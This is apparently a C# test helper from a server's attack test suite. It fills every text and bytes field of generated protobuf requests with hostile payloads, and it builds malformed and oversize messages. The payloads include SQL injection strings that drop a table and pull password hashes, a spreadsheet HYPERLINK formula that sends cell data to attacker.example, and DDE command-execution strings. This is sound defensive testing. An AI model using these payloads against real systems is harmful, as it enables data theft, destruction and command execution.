using System.Collections;
using Google.Protobuf;
using Google.Protobuf.Reflection;

namespace Invisible.Server.Tests.Attacks;

/// <summary>
/// Requests built from a method's descriptor alone, so a new RPC or a new field is attacked without anyone listing it:
/// every string (and bytes) field, nested messages and repeated fields included, carries the payload.
/// </summary>
public static class AttackMessages
{
    /// <summary>
    /// Text that breaks a query built by concatenation, or that a spreadsheet runs as a formula, or that PostgreSQL refuses
    /// in text (NUL), or that is merely long.
    /// </summary>
    public static readonly IReadOnlyList<string> Payloads =
    [
        "' OR '1'='1' --",
        "'; DROP TABLE invoices; --",
        "%' UNION SELECT email, password_hash FROM users --",
        "\"); SELECT pg_sleep(5); --",
        "=HYPERLINK(\"http://attacker.example/?\"&A1,\"open\")",
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "nul\0byte",
        "\uFEFF\u202Ereversed\uD83D\uDE00",
        new string('A', 70_000),
    ];

    /// <summary>An empty request of <paramref name="method"/>, as a client that sets nothing sends it.</summary>
    public static IMessage Empty(MethodDescriptor method) => method.InputType.Parser.ParseFrom(ByteString.Empty);

    /// <summary>A request of <paramref name="method"/> with <paramref name="payload"/> in every text and bytes field.</summary>
    public static IMessage Filled(MethodDescriptor method, string payload) => Filled(method.InputType, payload, depth: 0);

    private static IMessage Filled(MessageDescriptor descriptor, string payload, int depth)
    {
        var message = descriptor.Parser.ParseFrom(ByteString.Empty);
        foreach (var field in descriptor.Fields.InDeclarationOrder())
        {
            if (field.IsMap)
            {
                continue;
            }

            object? value = field.FieldType switch
            {
                FieldType.String => payload,
                FieldType.Bytes => ByteString.CopyFromUtf8(payload),
                FieldType.Message when depth < 3 => Filled(field.MessageType, payload, depth + 1),
                _ => null,
            };
            if (value is null)
            {
                continue;
            }

            if (field.IsRepeated)
            {
                ((IList)field.Accessor.GetValue(message)).Add(value);
            }
            else
            {
                field.Accessor.SetValue(message, value);
            }
        }

        return message;
    }

    /// <summary>Bytes that no protobuf parser accepts: field 1, length-delimited, with a length varint that never ends.</summary>
    public static readonly byte[] Malformed = [0x0A, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0x01];

    /// <summary>One byte more than the server's default receive limit (<c>Rpc:MaxReceiveMessageSize</c>, 4 MiB).</summary>
    public static byte[] Oversize() => new byte[(4 * 1024 * 1024) + 1];
}
